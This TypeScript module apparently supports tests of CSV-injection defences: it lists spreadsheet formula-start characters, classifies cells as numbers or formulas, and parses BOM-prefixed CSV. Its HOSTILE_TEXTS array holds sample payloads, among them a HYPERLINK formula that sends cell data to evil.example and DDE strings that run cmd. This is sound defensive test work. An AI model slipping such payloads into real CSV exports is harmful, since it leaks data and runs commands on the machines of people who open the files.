import { parse } from 'csv-parse/sync';

/**
 * What a spreadsheet takes for the start of a formula when a cell's text begins with it (OWASP's
 * CSV injection list: Excel, LibreOffice and Google Sheets), and the full-width forms that Apple
 * Numbers folds into them.
 */
export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'] as const;

/** A number as a spreadsheet reads one: digits, perhaps a minus sign and decimals, nothing else. */
export const readsAsNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

/** A cell a spreadsheet would run: it starts like a formula and is not a plain number (-5 is a number). */
export const readsAsFormula = (cell: string) =>
  !readsAsNumber(cell) && FORMULA_STARTS.some((start) => cell.startsWith(start));

/** Applicant text that runs as a formula if a CSV writes it as it is: one per character of FORMULA_STARTS. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF201+1',
] as const;

/**
 * A CSV file's cells as a spreadsheet opening it reads them: the UTF-8 byte order mark the file
 * must start with dropped, quoted cells unquoted, one array of cells per row (the header first).
 */
export function spreadsheetCells(text: string): string[][] {
  if (text.charCodeAt(0) !== 0xfeff) throw new Error('the CSV does not start with a UTF-8 byte order mark');
  return parse(text, { bom: true }) as string[][];
}
